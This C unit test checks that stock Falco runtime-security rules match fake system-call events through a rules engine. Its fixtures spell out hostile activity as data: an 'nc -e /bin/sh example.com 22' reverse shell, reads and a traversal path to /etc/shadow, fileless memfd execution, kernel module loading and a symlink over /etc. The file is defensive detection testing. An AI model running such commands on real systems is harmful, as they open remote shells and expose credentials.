/*
 * Events as Falco was seen to report them, and which stock rules they fire: the
 * whole way from file to match.  "sem N" as in test_rules_eval.c.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <limits.h>
#include <string.h>

#include "lib/rules/output.h"
#include "lib/rules/ruleset.h"
#include "tests/unit/fake_event.h"
#include "tests/unit/stock_rules.h"

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))
#define FACTS_MAX 32

/* In a container, from a shell; an event's own facts go before these. */
static const struct fake_fact common[] = {
	{"container.id", "0123456789ab"},
	{"container.privileged", "false"},
	{"container.image.repository", "docker.io/library/debian"},
	{"evt.num", "1"},
	{"evt.res", "SUCCESS"},
	{"evt.rawres", "0"},
	{"proc.name", "cat"},
	{"proc.exe", "/bin/cat"},
	{"proc.exepath", "/usr/bin/cat"},
	{"proc.pname", "sh"},
	{"proc.aname", "sh"},
	{"proc.aname", "containerd-shim"},
	{"proc.aname[2]", "containerd-shim"},
	{"proc.pexe", "sh"},
	{"proc.tty", "0"},
	{"proc.cwd", "/"},
	{"proc.duration", "1000000"},
	{"proc.is_exe_upper_layer", "false"},
	{"proc.is_exe_from_memfd", "false"},
	{"user.name", "root"},
	{"user.uid", "0"},
	{"thread.cap_effective", "CAP_CHOWN CAP_DAC_OVERRIDE CAP_KILL"},
};

struct trigger {
	enum rules_event event;
	struct fake_fact facts[FACTS_MAX / 2];
	const char *rules; /* names, joined by " + " */
	const char *why;
};

#define OPENED(path, dir, file)                                                \
	{"fd.name", path}, {"fd.nameraw", path}, {"fd.directory", dir},        \
		{"fd.filename", file}, {"fd.typechar", "f"},                   \
		{"evt.is_open_read", "true"}, {"evt.is_open_write", "false"}

static const struct trigger triggers[] = {
	{RULES_EVENT_openat,
	 {OPENED("/etc/shadow", "/etc", "shadow"), {"fd.num", "3"}},
	 "Read sensitive file untrusted",
	 "cat /etc/shadow"},
	{RULES_EVENT_openat,
	 {OPENED("/etc/hostname", "/etc", "hostname"), {"fd.num", "3"}},
	 "",
	 "cat /etc/hostname"},
	{RULES_EVENT_openat,
	 {OPENED("/etc/shadow", "/etc", "shadow"),
	  {"fd.num", "-1"},
	  {"evt.res", "EACCES"}},
	 "",
	 "the same without permission"},
	{RULES_EVENT_openat,
	 {OPENED("/etc/shadow", "/etc", "shadow"),
	  {"fd.num", "3"},
	  {"proc.name", "httpd"},
	  {"proc.duration", "6000000000"}},
	 "Read sensitive file trusted after startup + "
	 "Read sensitive file untrusted",
	 "a server that has run for long; all that match count"},
	{RULES_EVENT_openat,
	 {{"fd.name", "/etc/shadow"},
	  {"fd.nameraw", "/etc/../etc/../etc/shadow"},
	  {"fd.directory", "/etc"},
	  {"fd.typechar", "f"},
	  {"fd.num", "-1"},
	  {"evt.res", "ENOENT"},
	  {"proc.pname", "helper"}},
	 "Directory traversal monitored file read",
	 "sem 17: fd.nameraw is as it was given, and failed opens have names"},
	{RULES_EVENT_execve,
	 {{"proc.name", "bash"}, {"proc.tty", "34816"}, {"proc.pname", "runc"}},
	 "Terminal shell in container",
	 "docker run -t"},
	{RULES_EVENT_execve,
	 {{"proc.name", "bash"}, {"proc.tty", "34816"}},
	 "",
	 "a shell of a shell"},
	{RULES_EVENT_execve,
	 {{"proc.name", "bash"},
	  {"proc.tty", "34816"},
	  {"proc.pname", "runc"},
	  {"container.id", "host"}},
	 "",
	 "sem 19: the same on the host"},
	{RULES_EVENT_execve,
	 {{"proc.name", "shred"}, {"evt.res", "ENOENT"}},
	 "Remove Bulk Data from Disk",
	 "sem 14: a failed exec is an event, with the caller's name"},
	{RULES_EVENT_execve,
	 {{"proc.name", "nc"},
	  {"proc.cmdline", "nc -e /bin/sh example.com 22"},
	  {"proc.args", "-e /bin/sh example.com 22"}},
	 "Netcat Remote Code Execution in Container",
	 "sem 15: the command line begins with the name"},
	{RULES_EVENT_execve,
	 {{"proc.name", "dropped"}, {"proc.is_exe_upper_layer", "true"}},
	 "Drop and execute new binary in container",
	 "sem 20: a file that is not of the image"},
	{RULES_EVENT_execve,
	 {{"proc.name", "3"},
	  {"proc.is_exe_from_memfd", "true"},
	  {"proc.exepath", "memfd:x"}},
	 "Fileless execution via memfd_create",
	 "sem 20: a memfd"},
	{RULES_EVENT_execve,
	 {{"proc.name", "sh"},
	  {"proc.cmdline", "sh -c ls"},
	  {"proc.args", "-c ls"},
	  {"proc.pname", "httpd"},
	  {"proc.aname", "httpd"}},
	 "Run shell untrusted",
	 "sem 16: an ancestor"},
	{RULES_EVENT_ptrace,
	 {{"evt.arg[request]", "PTRACE_TRACEME"}},
	 "PTRACE anti-debug attempt",
	 "sem 18: requests by name"},
	{RULES_EVENT_ptrace,
	 {{"evt.arg[request]", "PTRACE_ATTACH"}},
	 "PTRACE attached to process",
	 "another"},
	{RULES_EVENT_dup2,
	 {{"evt.rawres", "1"}, {"fd.type", "ipv4"}},
	 "Redirect STDOUT/STDIN to Network Connection in Container",
	 "sem 13: fd is the new one, evt.rawres its number"},
	{RULES_EVENT_dup2,
	 {{"evt.rawres", "1"}, {"fd.type", "pipe"}},
	 "",
	 "sem 13: a pipe"},
	{RULES_EVENT_socket,
	 {{"evt.arg[domain]", "AF_PACKET"}},
	 "Packet socket created in container",
	 "sem 12: no address yet"},
	{RULES_EVENT_connect,
	 {{"proc.exe", "ssh"},
	  {"fd.typechar", "4"},
	  {"fd.l4proto", "tcp"},
	  {"fd.ip", "172.17.0.2"},
	  {"fd.ip", "192.0.2.1"},
	  {"fd.net", "172.17.0.2"},
	  {"fd.net", "192.0.2.1"},
	  {"fd.snet", "192.0.2.1"},
	  {"fd.sport", "443"},
	  {"evt.rawres", "-115"},
	  {"evt.res", "EINPROGRESS"}},
	 "Disallowed SSH Connection Non Standard Port",
	 "sem 12: a connection on its way counts"},
	{RULES_EVENT_connect,
	 {{"proc.exe", "ssh"},
	  {"fd.typechar", "4"},
	  {"fd.l4proto", "tcp"},
	  {"fd.sport", "443"},
	  {"evt.rawres", "-111"},
	  {"evt.res", "ECONNREFUSED"}},
	 "",
	 "sem 12: one that was refused does not"},
	{RULES_EVENT_connect,
	 {{"fd.typechar", "4"},
	  {"fd.sip.name", "kubernetes.default.svc.cluster.local"}},
	 "Contact K8S API Server From Container",
	 "a domain"},
	{RULES_EVENT_symlink,
	 {{"evt.arg[target]", "/etc"}, {"evt.arg[linkpath]", "/tmp/e"}},
	 "Create Symlink Over Sensitive Files",
	 "ln -s /etc /tmp/e"},
	{RULES_EVENT_finit_module,
	 {{"thread.cap_effective", "CAP_KILL CAP_SYS_MODULE"}},
	 "Linux Kernel Module Injection Detected",
	 "sem 18: capabilities, blank-separated"},
};

static size_t
own_facts(const struct trigger *t)
{
	size_t n = 0;

	while (n < ARRAY_SIZE(t->facts) && t->facts[n].name)
		n++;
	return n;
}

static void
stock_rules_fire_on_their_triggers(void **state)
{
	struct ruleset *rs = ruleset_new(NULL);
	struct rules_scratch *s;
	struct aegis_error err = {0};
	char path[PATH_MAX];

	(void)state;
	stock_path("falco_rules.yaml", path, sizeof(path));
	assert_int_equal(ruleset_add_file(rs, path, &err), 0);
	assert_int_equal(ruleset_compile(rs, &err), 0);
	s = rules_scratch_new(rs);
	assert_non_null(s);
	for (size_t i = 0; i < ARRAY_SIZE(triggers); i++) {
		struct fake_fact facts[FACTS_MAX + ARRAY_SIZE(common)];
		const size_t own = own_facts(&triggers[i]);
		struct fake_event e = {facts, own + ARRAY_SIZE(common), 0};
		_cleanup_buf_ struct buf got = BUF_INIT(4096);
		const uint32_t *found;
		size_t n;

		memcpy(facts, triggers[i].facts, own * sizeof(*facts));
		memcpy(facts + own, common, sizeof(common));
		n = rules_eval(rs, s, triggers[i].event, fake_get, &e,
			       RULES_MATCH_ALL, &found);
		for (size_t k = 0; k < n; k++)
			buf_addf(&got, "%s%s", k ? " + " : "",
				 ruleset_rule(rs, found[k])->name);
		if (strcmp(buf_str(&got), triggers[i].rules) != 0)
			fail_msg("%s: %s", triggers[i].why, buf_str(&got));
	}
	rules_scratch_free(s);
	ruleset_free(rs);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(stock_rules_fire_on_their_triggers),
	};

	return cmocka_run_group_tests_name("rules_triggers", tests, NULL, NULL);
}
